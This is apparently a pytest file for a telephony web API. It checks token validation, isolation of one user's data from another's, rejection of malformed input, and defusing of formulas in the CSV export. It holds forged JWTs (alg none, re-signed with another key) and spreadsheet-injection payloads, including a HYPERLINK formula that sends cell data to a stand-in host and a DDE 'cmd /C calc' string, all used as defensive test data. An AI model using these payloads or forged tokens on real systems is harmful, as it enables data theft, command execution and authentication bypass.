"""Authorization and bad input, on SQLite and MariaDB: tokens are checked everywhere, a user
never reads or changes another user's contacts, history, voicemail or phones, and malformed
or oversized bodies get a 4xx with a message."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import AsyncIterator
from pathlib import Path

import jwt
import pytest
from aiohttp.test_utils import TestClient

from tests.unit.fonbo.support import (
    World,
    add_cdr,
    add_voicemail,
    make_user,
    make_world,
    start_client,
    write_wav,
)
from webfon.store import Store


@pytest.fixture
async def pair(store: Store, data_dir: Path) -> AsyncIterator[tuple[TestClient, World]]:
    world = make_world(store, data_dir)
    world.users["a"] = await make_user(store, "1001", "Usuaria A", extension="2001", phones=2)
    world.users["b"] = await make_user(store, "1002", "Usuario B", extension="2002", phones=1)
    client = await start_client(world)
    yield client, world
    await client.close()


async def test_every_user_endpoint_wants_a_valid_token(pair: tuple[TestClient, World]) -> None:
    client, world = pair
    uid = world.users["a"]
    good = world.token(uid)
    claims = jwt.decode(good, options={"verify_signature": False})
    tampered = jwt.encode({**claims, "sub": str(world.users["b"])}, "k" * 32, algorithm="HS256")
    unsigned = jwt.encode({**claims}, None, algorithm="none")
    expired = world.token(uid, ttl=-60)
    wrong_audience = world.token(uid, audience=("gateway",))
    revoked = world.token(uid)
    jti = jwt.decode(revoked, options={"verify_signature": False})["jti"]
    await world.store.execute("INSERT INTO token_revocations (jti, user_id, revoked_at, "
                              "expires_at) VALUES (?, ?, ?, ?)",
                              (jti, uid, time.time(), time.time() + 600))
    cases = {"missing": None, "not bearer": f"Basic {good}", "garbage": "Bearer abc.def.ghi",
             "tampered": f"Bearer {tampered}", "alg none": f"Bearer {unsigned}",
             "expired": f"Bearer {expired}", "audience": f"Bearer {wrong_audience}",
             "revoked": f"Bearer {revoked}"}
    paths = ("/fonbo/contacts", "/fonbo/history", "/fonbo/voicemail", "/fonbo/phones",
             "/fonbo/forwarding", "/fonbo/me", "/fonbo/admin/users")
    for name, header in cases.items():
        for path in paths:
            r = await client.get(path, headers={"Authorization": header} if header else {})
            assert r.status == 401, (name, path, r.status)
            body = await r.json()
            assert body["error"]["message"] and "items" not in body
    ok = await client.get("/fonbo/contacts", headers={"Authorization": f"Bearer {good}"})
    assert ok.status == 200


async def test_user_b_cannot_touch_user_a_data(pair: tuple[TestClient, World]) -> None:
    client, world = pair
    a, b = world.users["a"], world.users["b"]
    ha, hb = world.auth(a), world.auth(b)
    contact = await (await client.post("/fonbo/contacts", headers=ha, json={
        "name": "Secreto de A", "number": "600999888"})).json()
    call = await add_cdr(world.store, a, started_at=1_700_000_000, caller="600999888",
                         callee="2001", caller_name="Secreto de A")
    wav = write_wav(world.data_dir / "vm" / "a.wav", 0.2)
    message = await add_voicemail(world.store, a, wav, caller="600999888")
    phone = (await (await client.get("/fonbo/phones", headers=ha)).json())["items"][1]
    forbidden = [
        ("GET", f"/fonbo/contacts/{contact['id']}", None),
        ("PATCH", f"/fonbo/contacts/{contact['id']}", {"name": "hacked"}),
        ("DELETE", f"/fonbo/contacts/{contact['id']}", None),
        ("GET", f"/fonbo/history/{call}", None),
        ("GET", f"/fonbo/voicemail/{message}", None),
        ("GET", f"/fonbo/voicemail/{message}/audio", None),
        ("POST", f"/fonbo/voicemail/{message}/ticket", None),
        ("PATCH", f"/fonbo/voicemail/{message}", {"heard": True}),
        ("DELETE", f"/fonbo/voicemail/{message}", None),
        ("PATCH", f"/fonbo/phones/{phone['id']}", {"enabled": False}),
        ("PUT", "/fonbo/phones/order", {"items": [{"id": phone["id"], "ring_order": 0}]}),
        ("POST", f"/fonbo/phones/{phone['id']}/provision", None),
    ]
    for method, path, body in forbidden:
        r = await client.request(method, path, headers=hb, json=body)
        text = await r.text()
        assert r.status in (403, 404), (method, path, r.status)
        assert "Secreto" not in text and "600999888" not in text, (method, path)
    # lists and exports of B show nothing of A
    for path in ("/fonbo/contacts", "/fonbo/history", "/fonbo/voicemail", "/fonbo/phones",
                 "/fonbo/history/recents", "/fonbo/history/export",
                 "/fonbo/contacts/export?format=vcard", "/fonbo/history/scroll",
                 "/fonbo/favourites", "/fonbo/agenda/search?q=Secreto"):
        r = await client.get(path, headers=hb)
        assert r.status == 200, path
        text = await r.text()
        assert "Secreto" not in text and "600999888" not in text, path
    # A's data is unchanged
    assert (await (await client.get(f"/fonbo/contacts/{contact['id']}", headers=ha)).json())[
        "name"] == "Secreto de A"
    vm = await (await client.get(f"/fonbo/voicemail/{message}", headers=ha)).json()
    assert vm["heard"] is False and wav.exists()
    mine = await (await client.get("/fonbo/phones", headers=ha)).json()
    assert mine["items"][1] == phone
    # a media ticket of A does not open another user's message for B's id space
    ticket = await (await client.post(f"/fonbo/voicemail/{message}/ticket", headers=ha)).json()
    other = await add_voicemail(world.store, b, write_wav(world.data_dir / "vm" / "b.wav", 0.1))
    r = await client.get(f"/fonbo/voicemail/{other}/audio", params={"ticket": ticket["ticket"]})
    assert r.status == 404


async def test_bad_bodies_get_clear_4xx(pair: tuple[TestClient, World]) -> None:
    client, world = pair
    h = world.auth(world.users["a"])
    r = await client.post("/fonbo/contacts", headers={**h, "Content-Type": "application/json"},
                          data=b"{not json")
    assert r.status == 400 and "invalid JSON" in (await r.json())["error"]["message"]
    r = await client.post("/fonbo/contacts", headers=h, json=["a", "list"])
    assert r.status == 400 and "object" in (await r.json())["error"]["message"]
    r = await client.post("/fonbo/contacts", headers=h, json={"name": "x", "number": "1",
                                                              "colour": "red"})
    body = await r.json()
    assert r.status == 400 and body["error"]["errors"][0]["field"] == "colour"
    r = await client.post("/fonbo/contacts", headers=h, data=b"")
    assert r.status == 400 and "empty body" in (await r.json())["error"]["message"]
    big = json.dumps({"name": "x", "notes": "n" * (world.settings.max_body_bytes + 10)})
    r = await client.post("/fonbo/contacts", headers={**h, "Content-Type": "application/json"},
                          data=big.encode())
    assert r.status == 413 and "too large" in (await r.json())["error"]["message"]
    r = await client.post("/fonbo/contacts/import", headers={**h, "Content-Type": "text/csv"},
                          data=b"name,number\n" + b"x,1\n" * 300_000)
    assert r.status == 413
    r = await client.get("/fonbo/history", headers=h, params={"limit": "0"})
    assert r.status == 400 and "limit" in (await r.json())["error"]["message"]
    r = await client.get("/fonbo/contacts/abc", headers=h)
    assert r.status == 404
    r = await client.post("/fonbo/contacts/import", headers={**h, "Content-Type": "text/csv"},
                          data=b"name,number\n\"unterminated,1\n")
    assert r.status == 422
    errors = (await r.json())["error"]["errors"]
    assert errors and errors[0]["line"] == 2


async def test_history_export_defuses_spreadsheet_formulas(
        pair: tuple[TestClient, World]) -> None:
    """A caller chooses the name (and user part) their call shows; the CSV export must not
    hand a spreadsheet a formula in any of the ways one starts, while a dialable number such
    as +34… stays a number."""
    client, world = pair
    a = world.users["a"]
    names = ["+HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "-2+3+cmd|' /C calc'!A0",
             "=1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "Ana López"]
    for i, name in enumerate(names):
        await add_cdr(world.store, a, started_at=1_700_000_000 + i, caller="+34600111222",
                      callee="2001", caller_name=name)
    await add_cdr(world.store, a, started_at=1_700_000_100, caller="+SUM(9)", callee="2001")
    r = await client.get("/fonbo/history/export", headers=world.auth(a))
    assert r.status == 200
    rows = list(csv.DictReader(io.StringIO(await r.text(), newline="")))
    assert [row["peer_name"] for row in rows[:len(names)]] == [
        "'" + n for n in names[:-1]] + ["Ana López"]
    assert all(row["peer_number"] == "+34600111222" for row in rows[:len(names)])
    assert rows[-1]["peer_number"] == "'+SUM(9)"
